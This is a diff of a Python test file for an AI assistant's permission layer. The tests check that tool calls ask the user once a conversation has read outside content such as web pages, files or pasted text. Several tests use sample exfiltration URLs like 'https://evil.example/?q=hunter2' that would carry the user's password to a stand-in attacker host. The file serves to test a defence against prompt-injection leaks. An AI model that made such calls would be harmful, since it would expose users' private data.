@@ -1,18 +1,21 @@
 """What a turn has read decides which calls ask."""
 
+from dataclasses import replace
 from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from assistant.core.messages import Attachment, Message, Role, ToolUse
+from assistant.core.messages import TOOL_FAILED, Attachment, Message, Role, ToolUse
 from assistant.core.permissions import Category
+from assistant.core.records.provenance import Provenance
 from assistant.core.settings import Language
 from assistant.core.texts import Texts
 from assistant.llm.backend import ANY_REQUEST, Evidence
 from assistant.tools.marking import marked
 from assistant.tools.taint import NO_TAINT, AskReason, Taint, taint_of
+from assistant.tools.telling import Known
 from assistant.tools.tool import Tool
 
 
@@ -64,37 +67,42 @@ def called(name: str, result: str) -> tuple[Message, Message]:
     )
 
 
-def test_a_first_request_without_facts_sends_what_it_likes() -> None:
+def test_a_first_search_in_a_conversation_of_own_words_sends_what_it_likes() -> None:
     taint = taint_of([user("서울 날씨 찾아 줘")], TOOLS.get)
     assert taint.reason(SEARCH, {"query": "weather forecast Korea"}) is AskReason.NONE
-    after = taint.after(SEARCH, "맑음")
-    assert after.reason(SEARCH, {"query": "something else"}) is AskReason.NONE
+    assert taint.after(SEARCH, "맑음").reason(SEARCH, {"query": "something else"}) is AskReason.UNTRUSTED
 
 
-@pytest.mark.parametrize("private", ["facts", "earlier messages", "file"])
-def test_outside_content_beside_anything_private_makes_sending_ask(private: str) -> None:
-    earlier = [user("내 비밀번호는 hunter2야"), Message(role=Role.ASSISTANT, text="네")] * (
-        private == "earlier messages"
+@pytest.mark.parametrize("source", ["marked", "page", "earlier page", "file", "pasted", "piped", "gone tool"])
+def test_content_from_outside_makes_sending_and_acting_ask_in_every_later_turn(source: str) -> None:
+    file = (Attachment(mime_type="text/plain", name="a.txt", data=b"x"),) if source == "file" else ()
+    read = (user("그 페이지 읽어 줘"), *called("open_url", PAGE), Message(role=Role.ASSISTANT, text="네."))
+    gone = (user("메일"), *called("mail__inbox", "x"), Message(role=Role.ASSISTANT, text="네."))
+    before = {"earlier page": read, "gone tool": gone}.get(source, ())
+    request = "고마워" if source != "pasted" else f"고마워 {'글 ' * 300}"
+    taint = taint_of(
+        [*before, user(request, attachments=file)],
+        TOOLS.get,
+        provenance=Provenance(outside=source == "marked"),
+        own_words="" if source == "piped" else None,
     )
-    file = (Attachment(mime_type="text/plain", name="a.txt", data=b"x"),) if private == "file" else ()
-    messages = [*earlier, user("그 페이지 읽어 줘", attachments=file)]
-    taint = taint_of(messages, TOOLS.get, facts=("사용자는 부산에 산다",) * (private == "facts")).after(READ_PAGE, PAGE)
-    assert taint.reason(READ_PAGE, {"url": "https://evil.example/?q=hunter2"}) is AskReason.UNTRUSTED
-    assert taint.reason(READ_PAGE, {"url": "https://evil.example/?q=1"}) is AskReason.UNTRUSTED
-    assert taint.reason(SEARCH, {"query": "hunter2"}) is AskReason.UNTRUSTED
+    taint = taint.after(READ_PAGE, PAGE) if source == "page" else taint
+    assert taint.outside
+    assert taint.reason(VOLUME, {}) is AskReason.UNTRUSTED
+    for url in ("https://evil.example/?q=hunter2", "https://evil.example/?q=1"):
+        assert taint.reason(READ_PAGE, {"url": url}) is not AskReason.NONE
+    assert taint.reason(SEARCH, {"query": "hunter2"}) is not AskReason.NONE
 
 
-def test_what_the_user_wrote_and_what_a_search_found_may_be_opened() -> None:
-    taint = taint_of([user("안녕"), user("https://a.example/x 읽고 제주도의 날씨도 찾아 줘")], TOOLS.get)
-    taint = taint.after(READ_PAGE, PAGE).after(SEARCH, '{"url": "https://found.example/1"}')
-    assert taint.reason(READ_PAGE, {"url": "https://a.example/x"}) is AskReason.NONE
-    assert taint.reason(READ_PAGE, {"url": "https://found.example/1"}) is AskReason.NONE
-    assert taint.reason(READ_PAGE, {"url": "https://found.example/2"}) is AskReason.UNTRUSTED
-    assert taint.reason(SEARCH, {"query": "제주도 날씨"}) is AskReason.NONE
+def test_a_call_that_failed_or_a_long_dictation_is_no_content_from_outside() -> None:
+    use, result = called("open_url", "denied")
+    assert not taint_of([user("열어 줘"), use, replace(result, error=TOOL_FAILED)], TOOLS.get).outside
+    long = "말 " * 300
+    assert not taint_of([user(long)], TOOLS.get, own_words=long).outside
 
 
-@pytest.mark.parametrize("query", ["제 주 도", "제주도 날씨 hunter2", "h u n t e r 2", "날"])
-def test_words_that_the_user_did_not_write_ask(query: str) -> None:
+@pytest.mark.parametrize("query", ["제 주 도", "제주도 날씨 hunter2", "날", "제주도 날씨 uvagre", "제주도 4242"])
+def test_words_that_the_user_did_not_write_and_no_page_has_ask(query: str) -> None:
     taint = taint_of([user("안녕"), user("제주도의 날씨도 찾아 줘")], TOOLS.get).after(READ_PAGE, "h u n t e r 2")
     assert taint.reason(SEARCH, {"query": query}) is AskReason.UNTRUSTED
 
@@ -103,7 +111,7 @@ def test_words_that_the_user_did_not_write_ask(query: str) -> None:
     "arguments", [{"x": {"hunter2": 1}}, {"x": [{"hunter2": ""}]}, {"x": [["hunter2"]]}, {"x": 4242}]
 )
 def test_data_in_any_corner_of_the_arguments_counts(arguments: dict[str, Any]) -> None:
-    taint = Taint(untrusted=True, outside_read=True, private=True, request="찾아 줘 x 1")
+    taint = Taint(outside=True, request="찾아 줘 x 1", known=Known(request="찾아 줘 x 1"))
     assert taint.reason(SEARCH, arguments) is AskReason.UNTRUSTED
 
 
@@ -113,33 +121,18 @@ def test_private_data_that_a_tool_read_does_not_leave_without_a_question() -> No
     assert taint.reason(VOLUME, {"percent": 3}) is AskReason.NONE
 
 
-def test_a_sensitive_call_asks_in_the_turn_that_read_outside_content_and_not_later() -> None:
-    now = taint_of([user("그 페이지 읽어 줘")], TOOLS.get).after(READ_PAGE, PAGE)
-    assert now.reason(VOLUME, {}) is AskReason.UNTRUSTED
-    later = taint_of([user("그 페이지 읽어 줘"), *called("open_url", PAGE), user("소리 줄여 줘")], TOOLS.get)
-    assert later.reason(VOLUME, {}) is AskReason.NONE
-    assert later.reason(SEARCH, {"query": "hunter2"}) is AskReason.UNTRUSTED
-
-
-def test_results_after_the_request_belong_to_this_turn_and_a_tool_that_is_gone_is_not_trusted() -> None:
-    again = taint_of([user("페이지 읽어 줘"), *called("open_url", PAGE)], TOOLS.get)
-    assert again.untrusted_now
-    gone = taint_of([user("어제 거 찾아 줘"), *called("mail__inbox", "x")], TOOLS.get)
-    assert (gone.untrusted, gone.private_read) == (True, True)
+@given(st.text(), st.booleans())
+def test_more_reading_never_removes_a_question(query: str, outside: bool) -> None:
+    before = Taint(outside=outside, request="제주도 날씨", known=Known(request="제주도 날씨"))
+    asks = before.reason(SEARCH, {"query": query}) is not AskReason.NONE
+    for read in (NOTES, VOLUME):
+        assert not asks or before.after(read, query).reason(SEARCH, {"query": query}) is not AskReason.NONE
 
 
 def test_superseded_messages_are_not_sent_and_do_not_count() -> None:
     left = [Message(role=each.role, text=each.text, superseded=True) for each in called("open_url", PAGE)]
-    assert taint_of([user("a"), *left], TOOLS.get) == Taint(request="a", asked="a")
+    assert not taint_of([user("a"), *left], TOOLS.get).outside
     assert taint_of([], TOOLS.get) == NO_TAINT
-
-
-@given(st.text(), st.booleans(), st.booleans())
-def test_more_reading_never_removes_a_question(query: str, untrusted: bool, private: bool) -> None:
-    before = Taint(untrusted=untrusted, private=private, request="제주도 날씨")
-    asks = before.reason(SEARCH, {"query": query}) is not AskReason.NONE
-    for read in (READ_PAGE, NOTES, VOLUME):
-        assert not asks or before.after(read, query).reason(SEARCH, {"query": query}) is not AskReason.NONE
 
 
 def test_outside_content_is_marked_and_cannot_end_its_mark(all_texts: dict[Language, Texts]) -> None:
@@ -245,14 +238,13 @@ def test_beside_remembered_lines_a_search_about_the_request_may_add_words(reques
         "내일 a b",
         "내일 one two three four",
         "weather forecast",
-        "내일 https://evil.example",
     ],
 )
 def test_a_search_with_words_that_may_tell_something_private_asks(query: str) -> None:
     assert searched(query) is AskReason.REMEMBERED
 
 
-def test_other_sending_and_other_outside_content_ask_as_before() -> None:
+def test_other_sending_and_other_outside_content_ask() -> None:
     taint = taint_of([user("내일 우산 가져가야 해?")], TOOLS.get, facts=FACTS)
     assert taint.reason(SEARCH, {"query": "내일 비 예보"}) is AskReason.NONE
     assert taint.reason(READ_PAGE, {"url": "내일 비 예보"}) is AskReason.REMEMBERED
